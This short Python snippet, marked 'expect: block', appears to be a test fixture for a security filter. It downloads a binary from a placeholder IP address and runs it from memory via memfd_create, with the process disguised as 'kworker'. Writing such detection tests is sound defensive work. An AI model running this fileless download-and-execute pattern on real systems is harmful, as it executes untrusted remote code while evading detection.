# expect: block
import os, urllib.request
elf = urllib.request.urlopen("http://198.51.100.77/bin").read()
fd = os.memfd_create("kworker", 0)
os.write(fd, elf)
os.execv(f"/proc/self/fd/{fd}", ["kworker"])
